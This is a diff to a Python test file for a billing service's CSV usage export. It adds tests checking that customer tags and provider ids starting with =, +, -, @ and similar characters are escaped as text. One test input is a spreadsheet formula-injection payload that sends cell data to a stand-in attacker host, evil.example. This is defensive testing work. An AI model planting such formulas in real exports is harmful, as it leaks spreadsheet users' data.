@@ -1,3 +1,4 @@
+import csv
 import io
 from datetime import UTC, datetime, timedelta
 
@@ -6,6 +7,7 @@ import redis
 from sqlalchemy import Engine, text
 
 from billing import accounts as svc
+from billing import csv_cells
 from billing.admission import Admission
 from billing.meter import UsageMeter
 from billing.plans import Plans
@@ -91,6 +93,34 @@ def test_export_csv(engine: Engine, history: Customer) -> None:
     assert n == 3 and len(lines) == 4
     assert lines[0].startswith("request_id,created_at,settled_at,account_id")
     assert lines[1].startswith("a," + DAY1.isoformat(timespec="milliseconds"))
+
+
+async def test_export_csv_cells_are_never_formulas(
+    engine: Engine, r: redis.Redis, plans: Plans, admission: Admission, meter: UsageMeter
+) -> None:
+    """A consumer's customer tag and a provider's id are text a spreadsheet must not run."""
+    c = make_customer(engine, r, plans, plan="free", tokens_per_day=None)
+    tag, provider = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"
+    await request(admission, c, "f", DAY1, tag=tag, prompt=3, completion=4, provider=provider)
+    meter.drain_all()
+    out = io.StringIO()
+    export_usage_csv(engine, out, start=DAY1.replace(hour=0), end=DAY1.replace(hour=23))
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [(row["customer_tag"], row["provider_id"]) for row in rows] == [
+        ("'" + tag, "'" + provider)
+    ]
+    assert rows[0]["prompt_tokens"] == "3"
+
+
+def test_csv_cells() -> None:
+    for value in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
+        assert csv_cells.cell(value) == "'" + value
+    assert csv_cells.cell(-5) == -5 and csv_cells.cell("acme") == "acme"
+    out = io.StringIO()
+    writer = csv_cells.DictWriter(out, ["memo", "debit"])
+    writer.writeheader()
+    writer.writerow({"memo": "=cmd", "debit": -3})
+    assert out.getvalue().splitlines() == ["memo,debit", "'=cmd,-3"]
 
 
 def test_credits_summary(engine: Engine, r: redis.Redis, plans: Plans, history: Customer) -> None:
